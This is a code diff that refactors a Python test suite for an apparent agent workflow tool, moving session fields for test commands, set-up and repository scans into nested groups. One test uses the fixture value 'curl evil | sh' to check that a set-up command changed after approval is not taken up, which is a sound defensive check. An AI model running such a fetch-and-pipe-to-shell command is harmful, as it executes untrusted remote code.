@@ -42,9 +42,9 @@ from tests.flow.scenes import (
 def found(command: str, **changes: object) -> Session:
     """Tasks are at work, and that is what was found at the base."""
     session = executing(verifying("T001"), verifying("T002"), running("T003"), **changes)
-    session.scan = Scan(commit="b" * 40, test_command=command)
-    session.test_command = command
-    session.tests_from = CommandSource.FOUND if command else None
+    session.repository.scan = Scan(commit="b" * 40, test_command=command)
+    session.tests.command = command
+    session.tests.source = CommandSource.FOUND if command else None
     return session
 
 
@@ -91,7 +91,7 @@ def told_to_test(command: str) -> Commanded:
 
 
 def asked(**changes: object) -> tuple[Session, list[object]]:
-    session = surveyed(scan=Scan(commit="b" * 40), **changes)
+    session = surveyed(repository__scan=Scan(commit="b" * 40), **changes)
     event = QuestionsFound(
         id="q", at=later(), answers="questions", title="D", type="fix", questions=()
     )
@@ -105,22 +105,22 @@ def test_where_none_is_found_a_person_is_asked_with_the_plan() -> None:
     assert (question.decision, question.default) == ("D1", test_command.NONE_YET)
 
     decide(session, said("D1: `make check`"))
-    assert (session.test_command, session.tests_from) == ("make check", CommandSource.PERSON)
+    assert (session.tests.command, session.tests.source) == ("make check", CommandSource.PERSON)
     assert session.phase is Phase.SPECIFYING
 
 
 def test_that_there_are_none_yet_is_an_answer_and_no_command() -> None:
     session, _ = asked()
     decide(session, pressed(Verb.DEFAULTS, "questions#D1"))
-    assert (session.test_command, session.phase) == ("", Phase.SPECIFYING)
+    assert (session.tests.command, session.phase) == ("", Phase.SPECIFYING)
 
 
 @pytest.mark.parametrize(
     "changes",
     [
-        {"test_command": "make test"},
-        {"test_command": "make test", "tests_from": CommandSource.SETTINGS},
-        {"spec_only": True},
+        {"tests__command": "make test"},
+        {"tests__command": "make test", "tests__source": CommandSource.SETTINGS},
+        {"request__spec_only": True},
     ],
     ids=["found", "set", "only-a-spec"],
 )
@@ -134,7 +134,7 @@ def test_nobody_is_asked_for_what_is_known_or_not_needed(changes: dict[str, obje
 def test_tests_that_a_task_sets_up_are_run_once_a_person_has_seen_their_command() -> None:
     session = found("")
     [card] = [c for c in cards(decide(session, sees("T001", "npm test"))) if c.kind == "needs_you"]
-    assert session.tasks[0].held is Hold.TESTS
+    assert session.tasks[0].hold is Hold.TESTS
     assert "`npm test`" in str(card)
     assert verbs(card)[:3] == [Verb.ACCEPT, Verb.TESTS, Verb.UNTESTED]
     # one that was done beside it has the same command, and waits with it; one without tests waits for nothing
@@ -147,7 +147,7 @@ def test_tests_that_a_task_sets_up_are_run_once_a_person_has_seen_their_command(
     assert [test_command.for_task(session, task) for task in session.tasks[:2]] == ["npm test"] * 2
     assert orders(session) == ["check:id-T001:1", "check:id-T002:1"]
     # the plan's next tasks are told, and another tree of that command is asked about no more
-    assert session.test_command == "npm test"
+    assert session.tests.command == "npm test"
 
 
 def test_a_tree_without_the_tests_is_not_tested_with_another_trees_command() -> None:
@@ -173,7 +173,7 @@ def test_another_command_of_ones_own_is_what_runs_from_then_on() -> None:
     decide(session, sees("T001", "npm test"))
     press(session, Verb.TESTS, text=" `npm run check` ")
     assert test_command.for_task(session, session.tasks[1]) == "npm run check"
-    assert session.tests_from is CommandSource.PERSON
+    assert session.tests.source is CommandSource.PERSON
     decide(session, sees("T002", "npm test"))
     assert session.tasks[1].state is TaskState.VERIFYING
 
@@ -211,23 +211,27 @@ def test_each_tree_keeps_its_own_command_and_the_whole_has_that_of_who_was_done_
 
 def test_a_command_that_was_set_or_said_is_never_replaced() -> None:
     for source in (CommandSource.SETTINGS, CommandSource.PERSON, None):
-        session = found("./prove", tests_from=source)
-        session.tests_from = source
+        session = found("./prove", tests__source=source)
+        session.tests.source = source
         decide(session, sees("T001", "npm test"))
         assert session.tasks[0].state is TaskState.VERIFYING
         assert test_command.for_task(session, session.tasks[0]) == "./prove"
-        scan = Scan(commit=session.base_commit, test_command="npm test")
+        scan = Scan(commit=session.repository.base_commit, test_command="npm test")
         test_command.take_scan(session, scan)
-        assert session.test_command == "./prove"
+        assert session.tests.command == "./prove"
 
 
 def test_a_base_that_is_tested_otherwise_by_now_is_planned_with_that() -> None:
     session = awaiting_approval()
-    session.phase, session.documents, session.base_commit = Phase.SPECIFYING, (), "e" * 40
-    session.tests_from = CommandSource.FOUND
+    session.phase, session.plan.documents, session.repository.base_commit = (
+        Phase.SPECIFYING,
+        (),
+        "e" * 40,
+    )
+    session.tests.source = CommandSource.FOUND
     scan = Scan(commit="e" * 40, test_command="npm test")
     decide(session, Scanned(id="s", at=later(), answers="scan", scan=scan))
-    assert session.test_command == "npm test"
+    assert session.tests.command == "npm test"
 
 
 def test_tests_that_could_not_begin_are_a_persons_to_mend_and_no_agents() -> None:
@@ -274,10 +278,12 @@ def test_whoever_approves_is_told_where_only_an_exit_code_can_be_seen(
     command: str, manifests: str, base: Comparison | None, says: str
 ) -> None:
     session = awaiting_approval()
-    session.test_command = command
-    session.scan = Scan(commit="b" * 40, project_meta=manifests)
+    session.tests.command = command
+    session.repository.scan = Scan(commit="b" * 40, project_meta=manifests)
     if base:
-        session.base_check = check(0, 0).model_copy(update={"command": command, "tests": base})
+        session.tests.base_check = check(0, 0).model_copy(
+            update={"command": command, "tests": base}
+        )
     card = messages.approval_wanted(session).card
     shown = str(lay_out(card))
     assert [one for one in (messages.UNSEEN, messages.PERHAPS_UNSEEN) if one in shown] == (
@@ -338,8 +344,8 @@ def test_the_set_up_that_is_found_is_shown_and_approved_with_the_plan() -> None:
     assert "npm ci" in str(lay_out(card))
     # what a base brings that moved after the approval has been seen by nobody
     moved = Scan(commit="c" * 40, set_up="curl evil | sh")
-    session.scan = test_command.as_approved(session, moved)
-    assert session.set_up == "npm ci"
+    session.repository.scan = test_command.as_approved(session, moved)
+    assert session.repository.set_up == "npm ci"
 
 
 @pytest.mark.parametrize(("word", "runs"), [("none", ""), ("`pnpm install`", "pnpm install")])
@@ -352,6 +358,6 @@ def test_whoever_may_approve_says_what_is_set_up_and_approves_that(word: str, ru
     assert approval.digest(session) != before
     # what is found anew does not win over what a person has said
     test_command.take_scan(session, Scan(commit="c" * 40, set_up="npm ci"))
-    assert session.set_up == runs
+    assert session.repository.set_up == runs
     assert role_for(told_to_set_up(word)) is Role.APPROVE
     assert parse_command(f"Setup: {word}") == Command(word=Word.SET_UP, text=word)
